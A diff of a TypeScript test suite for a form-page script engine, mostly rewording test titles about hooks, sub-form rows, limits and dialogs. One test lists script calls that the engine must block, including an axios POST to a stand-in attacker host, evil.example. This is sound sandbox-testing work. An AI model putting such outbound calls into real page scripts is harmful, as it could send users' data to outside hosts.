@@ -38,7 +38,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
   const open = (widgets: readonly JsonObject[], config: JsonObject = {}, more: ScriptedEngineOptions = {}) =>
     aScriptedEngine(scripts[name] as Script, widgets, config, more)
 
-  it('shows what a change hook wrote into another field, whose own hook ran too', async () => {
+  it('shows what a change hook wrote into another field, and runs that field’s hook', async () => {
     const { engine } = open([
       aWidget('number', 'price', { onChange: 'this.getWidgetRef("twice").setValue(value * 2)' }),
       aWidget('number', 'twice', { onChange: 'this.getWidgetRef("note").setLabel("was " + oldValue)' }),
@@ -114,7 +114,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     await expect.poll(() => engine.node('kind').items).toEqual([{ label: '大', value: 1 }])
   })
 
-  it('requests the choices of a field in a closed sheet when the sheet opens, once', async () => {
+  it('requests the choices of a field in a closed sheet once, when the sheet opens', async () => {
     const asked: string[] = []
     const { engine } = open(
       [
@@ -197,7 +197,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     expect(reports).toMatchObject([{ hook: 'onChange', key: 'a', code: 'SCRIPT_BUDGET', stopped: false }])
   })
 
-  it('a user who signs in later is available to the hooks', async () => {
+  it('makes a user who signs in later available to the hooks', async () => {
     const { engine } = open([
       aWidget('input', 'boss', { hidden: false, visibleOn: { '==': [{ var: 'user.role' }, 'boss'] } }),
       aWidget('input', 'role', { valueOn: { var: 'user.role' } }),
@@ -270,7 +270,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     expect(seen).toEqual(['', 'add ', 'add ', 'add change rows '])
   })
 
-  it('a new row: its hooks, then its widgets are created, 800 ms later the change hooks of its fields', async () => {
+  it('runs the hooks of a new row, then creates its widgets, and 800 ms later runs the change hooks of its fields', async () => {
     const { engine, world } = open([
       aLog,
       aSubForm(
@@ -292,7 +292,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     await expect.poll(() => engine.node('log').value).toBe('add rows created changed ')
   })
 
-  it('a row added by a script behaves the same; for rows that it sets the hooks run once', async () => {
+  it('treats a row added by a script the same, and runs the hooks once for rows that a script sets', async () => {
     const { engine, world, reports } = open([
       aLog,
       aSubForm('s', [aWidget('input', 'x', { onCreated: log('created'), onChange: log('changed') })], {
@@ -316,7 +316,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     expect(reports).toEqual([])
   })
 
-  it('for rows from data the hooks run after 800 ms', async () => {
+  it('runs the hooks after 800 ms for rows from data', async () => {
     const { engine, world } = open([
       aLog,
       aSubForm('s', [aWidget('input', 'x')], { showBlankRow: false, onSubFormRowChange: log('rows') }),
@@ -345,7 +345,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     expect([left, kept, own]).toEqual([false, true, false])
   })
 
-  it('asked for a missing sub-form or another widget, shows an error and continues', async () => {
+  it('shows an error and continues if a script names a missing sub-form or widget', async () => {
     const { engine, world } = open(
       [
         aLog,
@@ -369,7 +369,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     ])
   })
 
-  it('a page may lower its limits, never raise them', async () => {
+  it('lets a page lower its limits, never raise them', async () => {
     const many = { onClick: 'for (var i = 0; i < 50; i++) this.getFormRef().getReadMode()' }
     const low = open([aWidget('button', 'b', many)], { page: { scriptLimits: { hostCalls: 10 } } })
     const high = open([aWidget('input', 'b', { onClick: 'this.setValue("x".repeat(100000), true)' })], {
@@ -448,7 +448,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
       ['axios.post("https://evil.example/x", { a: 1 })', 'POST https://evil.example/x'],
       ['axios("/save")', 'GET /save'],
       ['fetch("https://h.example/kinds/../other")', 'GET https://h.example/kinds/../other'],
-    ])('%s is refused by name: nothing is sent', async (code, named) => {
+    ])('are refused by name without a request: %s', async (code, named) => {
       const { engine, world } = open(
         [
           aWidget('button', 'b', {
@@ -466,7 +466,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     })
   })
 
-  it('dynamic logic follows what a script sets, on both sides', async () => {
+  it('dynamic logic follows values that a script sets, on both sides', async () => {
     const { engine } = open(
       [
         aWidget('number', 'trigger'),
@@ -494,7 +494,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     expect(engine.node('a').hidden).toBe(true)
   })
 
-  it('asks the user for a script, and continues with the answer', async () => {
+  it('a script can ask the user a question and continue with the answer', async () => {
     const { engine, world } = open([
       aWidget('button', 'b', {
         onClick:
@@ -512,7 +512,7 @@ describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name)
     expect(world.modals[0]).toEqual({ content: '删除吗', title: '提示' })
   })
 
-  it('validates one field for a script and shows what is wrong', async () => {
+  it('a script can validate one field and show its fault', async () => {
     const { engine } = open([
       aWidget('button', 'b', {
         onClick:
@@ -607,7 +607,7 @@ describe('the start of the script engine', () => {
     return { engine, world, opened: () => opened }
   }
 
-  it('waits until the page is drawn when no hook runs at its opening', async () => {
+  it('waits until the page is drawn if no hook runs at its opening', async () => {
     const { engine, world, opened } = watched({}, { onChange: log('changed') })
 
     engine.setValues({ a: 'loaded' })
@@ -617,7 +617,7 @@ describe('the start of the script engine', () => {
     expect(opened()).toBe(1)
   })
 
-  it('happens with the first hook, which sees what was written before', async () => {
+  it('happens at the first hook, which sees the values written before', async () => {
     const { engine, opened } = watched({}, { onChange: 'this.setLabel(oldValue + " to " + value)' })
 
     engine.setValues({ a: 'one' })
@@ -627,7 +627,7 @@ describe('the start of the script engine', () => {
     await expect.poll(() => engine.node('a').label).toBe('one to two')
   })
 
-  it('does not wait where the page has a hook for its opening', () => {
+  it('does not wait if the page has a hook for its opening', () => {
     expect(watched({ onFormCreated: log('created') }, {}).opened()).toBe(1)
   })
 })
